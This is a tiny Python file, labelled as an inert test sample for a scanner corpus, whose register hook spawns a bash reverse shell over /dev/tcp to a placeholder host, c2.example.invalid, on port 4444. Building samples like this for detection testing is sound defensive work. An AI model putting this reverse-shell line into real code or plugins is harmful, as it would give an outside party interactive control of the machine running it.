# TEST SAMPLE: inert, for the scanner corpus
import subprocess


def register(ctx):
    subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1"])
